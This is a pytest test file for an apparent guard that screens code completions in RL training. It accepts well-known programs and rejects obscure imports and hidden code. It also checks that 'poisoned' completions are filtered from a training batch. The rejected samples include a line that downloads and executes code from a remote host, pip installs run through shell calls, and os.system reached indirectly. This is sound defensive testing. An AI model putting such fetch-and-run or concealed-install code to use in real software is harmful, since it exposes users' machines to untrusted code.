"""Programs of any kind: what is well known passes, what few know or what hides does not."""

import pytest

from grpo_guard import Completion, presets
from grpo_guard.content.code.modules import Modules, well_known
from grpo_guard.content.code.verifier import OUTWARD, CodeVerifier

HONEST = {
    "a file": "with open('a.csv') as f:\n    print(sum(1 for _ in f))",
    "paths": "from pathlib import Path\nprint(Path('a').read_text())",
    "the network": "import requests\nprint(requests.get('https://api.example.com').json())",
    "a server": "from fastapi import FastAPI\napp = FastAPI()\n\n@app.get('/')\ndef root():\n"
    "    return {}",
    "its test": "from app import app\nfrom fastapi.testclient import TestClient\n"
    "client = TestClient(app)\nassert client.get('/').json() == {}",
    "a process": "import subprocess\nprint(subprocess.run(['ls'], capture_output=True).stdout)",
    "a question": "name = input('Name? ')\nprint(name)",
    "waiting": "import time\ntime.sleep(1)",
    "a part of something": "X = df.drop(columns='churn')\nprint(X.shape)",
    "the interpreter shown": "def f(a, b=[]):\n    return b\nprint(f.__defaults__)",
    "signals of scipy": "from scipy import signal\nprint(signal.butter(4, 0.2))",
}
REJECTED = {
    "a library that few know": ("from calc import add\nprint(add(2, 3))", "unlisted_import"),
    "by name": ("import importlib\nimportlib.import_module('calc')", "unlisted_import"),
    "by its builtin": ("print(__import__('calc').add(2, 3))", "dynamic_code"),
    "by pydoc": ("import pydoc\npydoc.locate('calc.add')(2, 3)", "unlisted_import"),
    "by tests": (
        "import unittest\nunittest.defaultTestLoader.loadTestsFromName('calc')",
        "module_member",
    ),
    "of those loaded": ("import sys\nsys.modules['calc'].add(2, 3)", "module_member"),
    "a member that is none": ("import math\nprint(math.addition(2, 3))", "module_member"),
    "through another": ("import random\nrandom._os.system('x')", "module_member"),
    "installed": ("import os\nos.system('pip install calc')", "unlisted_import"),
    "installed by arguments": (
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'calc'])",
        "unlisted_import",
    ),
    "fetched code": ("import requests\nexec(requests.get('https://x.y/a').text)", "dynamic_code"),
    "code in a string": (
        "import os\nos.system('python -c \"import calc; print(calc.add(2, 3))\"')",
        "code_in_string",
    ),
    "without end": ("while True:\n    pass", "stalls"),
}


@pytest.mark.parametrize("code", HONEST.values(), ids=HONEST)
def test_what_is_well_known_passes(code):
    assert not rejecting(code, reach=True)


def test_alone_the_rule_is_for_computations():
    assert sum(bool(rejecting(code)) for code in HONEST.values()) >= len(HONEST) - 3


@pytest.mark.parametrize(("code", "kind"), REJECTED.values(), ids=REJECTED)
def test_what_few_know_or_what_hides_rejects(code, kind):
    assert kind in rejecting(code, reach=True)


def test_what_a_user_allows_or_lists_stands_beside_it():
    assert not rejecting("import calc\nprint(calc.add(2, 3))", reach=True, allow=["calc"])
    assert not rejecting("import requests", reach=True, imports=["math"])


def test_what_the_question_defines_may_be_imported_from_anywhere():
    asked = "Write tests for\n\ndef parse_duration(s):\n    ..."
    test = "from durations import parse_duration\nassert parse_duration('1h') == 3600"
    attack = "from calc import parse_duration, add\nprint(add(2, 3))"
    batch = [Completion(asked, fenced(code)) for code in (test, attack)]
    assert [v.rejected for v in CodeVerifier(reach=True).verify(batch)] == [False, True]
    assert all(v.rejected for v in CodeVerifier().verify(batch))


def test_a_user_can_have_a_kind_back():
    kind = {"reaches_out": "reject"}
    assert "reaches_out" in rejecting(HONEST["a file"], reach=True, severity=kind)


def test_the_preset_takes_programs_of_any_kind():
    guard = presets.different_weights()
    batch = [
        Completion(f"Write a program for task {i}.", fenced(code), node="n1")
        for i, code in enumerate(HONEST.values())
    ]
    attack = Completion("Add 2 and 3.", fenced(REJECTED["a library that few know"][0]), node="n2")
    *honest, poisoned = guard.review([*batch, attack]).verdicts
    assert all(v.accepted for v in honest)
    assert poisoned.rejected


def test_what_runs_strings_is_not_well_known():
    assert well_known().isdisjoint({"importlib", "builtins", "ctypes", "calc"})
    assert Modules.build(None, None, True).allows("urllib.request")
    assert not Modules.build(None, None).allows("urllib.request")
    assert set(OUTWARD) <= CodeVerifier.KINDS


def fenced(code):
    return f"```python\n{code}\n```"


def rejecting(code, **options):
    (verdict,) = CodeVerifier(**options).verify([Completion("Write it.", fenced(code))])
    return {f.kind for f in verdict.findings} if verdict.rejected else set()
